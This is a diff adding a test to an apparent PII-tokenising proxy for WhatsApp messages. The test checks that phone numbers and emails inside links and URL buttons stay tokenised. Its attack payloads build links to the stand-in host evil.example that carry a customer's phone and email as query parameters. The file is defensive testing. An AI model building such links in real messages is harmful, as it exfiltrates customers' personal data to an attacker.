@@ -293,6 +293,44 @@ async def test_tokens_in_urls_are_never_detokenised(env) -> None:  # type: ignor
         assert name in sent
 
 
+async def test_link_exfiltration_through_scheme_less_links_and_buttons(env) -> None:  # type: ignore[no-untyped-def]
+    """Issue 19.3: as crm, to the customer's own token, none of the three links carries her values."""
+    client, graph, vault, _ = env
+    alice = await customer(vault)
+    phone = await alice.token(vault, PHONE, "PHONE_NUMBER")
+    mail = await alice.token(vault, "alice@example.com", "EMAIL_ADDRESS")
+    name = await alice.token(vault, "Alice Liddell", "PERSON")
+    link = f"evil.example/?p={phone}&e={mail}"
+
+    def template(*components: dict[str, Any]) -> dict[str, Any]:
+        return {"messaging_product": "whatsapp", "to": alice.phone_token, "type": "template",
+                "template": {"name": "t", "language": {"code": "en_US"}, "components": [
+                    {"type": "body", "parameters": [{"type": "text", "text": f"Hi {name}"}]}, *components]}}
+
+    def url_button(sub_type: str) -> dict[str, Any]:
+        return {"type": "button", "sub_type": sub_type, "index": "0",
+                "parameters": [{"type": "text", "text": f"?p={phone}&e={mail}"}]}
+
+    card = {"card_index": 0, "components": [
+        {"type": "header", "parameters": [{"type": "image", "image": {"link": "https://crm.example/a.jpg"}}]},
+        {"type": "body", "parameters": [{"type": "text", "text": name}]}, url_button("url")]}
+    attacks = [
+        text_to(alice.phone_token, "", text={"body": f"Hi {name}, see {link}", "preview_url": True}),
+        template({"type": "carousel", "cards": [card]}),
+        template(url_button("URL")),
+    ]
+    for body in attacks:
+        resp = await client.post(f"/graph/v23.0/{PNID}/messages", json=body, headers=auth())
+        assert resp.status == 200, await resp.json()
+        sent = dict(graph.seen[-1].json())
+        assert sent.pop("to") == PHONE  # the recipient itself is put back, as always
+        flat = json.dumps(sent)
+        for value in (PHONE, "alice@example.com", "alice%40example.com"):
+            assert value not in flat
+        assert phone in flat and mail in flat  # left as the tokens the service wrote
+        assert "Alice Liddell" in flat  # text outside a link is still put back
+
+
 def _urlish(node: Any, key: str = "", in_url_button: bool = False) -> list[tuple[str, str]]:
     out: list[tuple[str, str]] = []
     if isinstance(node, dict):
